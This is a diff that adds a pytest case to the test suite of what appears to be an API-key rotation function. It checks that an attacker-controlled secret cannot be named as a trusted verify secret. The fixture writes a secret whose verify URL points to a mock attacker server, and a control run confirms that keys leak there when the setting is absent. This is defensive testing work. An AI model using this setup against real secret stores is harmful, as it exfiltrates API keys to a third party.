@@ -446,3 +446,31 @@ def test_6_an_id_that_holds_the_key_is_refused_and_never_logged(
         case.rotate()
         assert issuer.live(prefix + token) == []
     assert_no_leak(issuer, capsys, caplog)
+
+
+# -- 7. the trusted secret itself: another secret the function rotates ---------------------------
+def test_7_another_rotated_secret_cannot_serve_as_a_trusted_secret(
+    api: ApiKeyTarget, sm: Any, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The function can read every secret it rotates. A writer of two of them makes one
+    (theirs) a verify secret that sends keys to their server, and names it from the other
+    (the victim's) as its verify secret. With TRUSTED_SECRET_ARNS (the stack sets it from
+    the admin and verify secrets it lets the function read), only those may be named."""
+    legit = api.verify_secret(unique("svc"))
+    theirs = new_case(api, sm, api.generated_secret(unique("svc")))
+    put_current(sm, theirs, {"hosts": [attacker.netloc], "verify": {"url": f"{attacker.url}/v1/me"}})
+    victim_doc = api.generated_secret(unique("svc")) | {"verify_secret_arn": theirs.arn}
+    victim = new_case(api, sm, victim_doc)
+    monkeypatch.setenv("TRUSTED_SECRET_ARNS", legit)
+    token = driver.start_rotation(sm, victim.arn)
+    with pytest.raises(ConfigurationError, match="TRUSTED_SECRET_ARNS"):
+        driver.run_steps(victim.handler, victim.arn, token)
+    assert attacker.captured == [], "a key reached the attacker's server"
+    # Control: without the setting, IAM alone decides, and the function may read that secret.
+    monkeypatch.delenv("TRUSTED_SECRET_ARNS")
+    victim = new_case(api, sm, victim_doc)
+    token = driver.start_rotation(sm, victim.arn)
+    for step in driver.STEPS[:3]:
+        with contextlib.suppress(Exception):
+            victim.handler(driver.event(victim.arn, token, step), None)
+    assert attacker.captured, "control: the attack works where nothing binds the trusted secrets"
